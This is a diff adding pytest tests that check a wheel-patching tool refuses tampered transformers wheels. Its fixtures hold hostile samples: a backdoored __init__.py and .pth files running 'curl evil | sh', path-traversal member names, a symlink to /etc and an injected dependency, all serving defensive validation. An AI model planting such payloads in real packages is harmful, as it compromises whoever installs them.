@@ -334,3 +334,109 @@ def test_members_adding_up_past_the_total_limit_are_refused(tmp_path, patches, o
     argv = ["patch-wheel", str(original), "-o", str(tmp_path / "out"), "--patches-dir", str(patches)]
     assert main(argv) == 2
     assert "more than patch-wheel reads (100)" in capsys.readouterr().err
+
+
+# -- tampered wheels ------------------------------------------------------------------------------
+
+INFO = "transformers-1.0.0.dist-info"
+
+
+def rewrite(wheel: Path, *, add=(), drop=(), record=None) -> None:
+    """Rewrite ``wheel``: members ``add`` (``(name or ZipInfo, bytes)``; a name replaces the member
+    of that name, a ZipInfo is appended beside it) at the end, ``drop`` left out, RECORD's text
+    passed through ``record``."""
+    with zipfile.ZipFile(wheel) as archive:
+        contents = [(info, archive.read(info)) for info in archive.infolist()]
+    replaced = {item for item, _ in add if isinstance(item, str)} | set(drop)
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in contents:
+            if info.filename in replaced:
+                continue
+            if info.filename == f"{INFO}/RECORD" and record is not None:
+                data = record(data.decode()).encode()
+            archive.writestr(info, data)
+        for item, data in add:
+            archive.writestr(item, data)
+
+
+def row(name: str, data: bytes) -> str:
+    return f"{name},{record_hash(data)},{len(data)}\n"
+
+
+def listed(name: str, data: bytes) -> dict:
+    """A member added with a true RECORD row: only the layout can refuse it."""
+    return dict(add=[(name, data)], record=lambda text: text + row(name, data))
+
+
+def symlink(name: str) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name)
+    info.create_system = 3
+    info.external_attr = 0o120777 << 16
+    return info
+
+
+INIT = "transformers/__init__.py"
+INIT_ROW = row(INIT, FILES[INIT].encode())
+BACKDOOR = b"__version__ = 'fake'\nimport os; os.system('curl evil | sh')\n"
+EVIL_PTH = b"import os; os.system('curl evil | sh')\n"
+METADATA = b"Metadata-Version: 2.1\nName: transformers\nVersion: 1.0.0\nRequires-Dist: evil\n"
+TAMPERED = {
+    # a member edited, its RECORD row left: what patch-wheel used to launder with a fresh row
+    "edited member": (dict(add=[(INIT, BACKDOOR)]), f"{INIT} differs from its RECORD row"),
+    "edited target": (dict(add=[(TARGET, BEFORE.encode() + b"import os\n")]), "differs from its RECORD"),
+    "edited METADATA": (dict(add=[(f"{INFO}/METADATA", METADATA)]), "METADATA differs from its RECORD row"),
+    "parent path": (dict(add=[("transformers/../../evil.py", b"x")]), "named outside the wheel's tree"),
+    "absolute path": (dict(add=[("/tmp/evil.py", b"x")]), "named outside the wheel's tree"),
+    "backslash": (dict(add=[("transformers\\..\\evil.py", b"x")]), "named outside the wheel's tree"),
+    "symlink": (
+        dict(add=[(symlink("transformers/m"), b"/etc")], record=lambda t: t + row("transformers/m", b"/etc")),
+        "is a symbolic link",
+    ),
+    "top-level .pth": (listed("evil.pth", EVIL_PTH), "evil.pth, which the release does not have"),
+    ".data .pth": (listed("transformers-1.0.0.data/purelib/x.pth", EVIL_PTH), "which the release does not"),
+    "nested .pth": (listed("transformers/evil.pth", EVIL_PTH), "a .pth file"),
+    "another package": (listed("evil/__init__.py", b"x"), "evil/__init__.py, which the release does not"),
+    "not in RECORD": (dict(add=[("transformers/extra.py", b"x")]), "extra.py has no hash in its RECORD"),
+    "missing member": (dict(drop=[INIT]), f"lists {INIT}, which the wheel does not hold"),
+    "duplicate member": (dict(add=[(zipfile.ZipInfo(INIT), BACKDOOR)]), "in the archive twice"),
+    "md5 in RECORD": (dict(record=lambda t: t.replace(INIT_ROW, f"{INIT},md5=abc,22\n")), "hash is md5"),
+    "wrong size": (dict(record=lambda t: t.replace(INIT_ROW, INIT_ROW[:-3] + "99\n")), "from its RECORD"),
+}
+
+
+@pytest.fixture(scope="module")
+def counts(request):
+    from reliability_support import summary
+
+    return summary(request.config, "hostile wheels")
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+@pytest.mark.parametrize("case", sorted(TAMPERED))
+def test_a_tampered_wheel_is_refused_and_nothing_written(tmp_path, patches, original, capsys, counts, case):
+    changes, message = TAMPERED[case]
+    rewrite(original, **changes)
+    out = tmp_path / "out" / "dist"
+    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches)]
+    assert main(argv) == 2
+    err = capsys.readouterr().err
+    assert f"{original} is not the transformers 1.0.0 wheel as released" in err, err
+    assert message in err and "fix: download the release again" in err and "Traceback" not in err
+    assert not (tmp_path / "out").exists()
+    counts.bad_inputs += 1
+    counts.runs += 1
+
+
+def test_a_tampered_wheel_with_json_gives_one_error_document(tmp_path, patches, original, capsys):
+    rewrite(original, add=[(INIT, BACKDOOR)])
+    out = tmp_path / "out"
+    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches), "--json"]
+    assert main(argv) == 2
+    report = json.loads(capsys.readouterr().out)
+    assert report["ok"] is False and "differs from its RECORD row" in report["problem"]
+
+
+def test_signatures_and_directory_entries_of_a_released_wheel_pass(tmp_path, patches, original):
+    rewrite(original, add=[(f"{INFO}/RECORD.jws", b"{}"), (zipfile.ZipInfo("transformers/"), b"")])
+    result = patch_wheel(original, tmp_path / "out", directory=patches)
+    assert not any(name.endswith("RECORD.jws") for name in read(result.path))
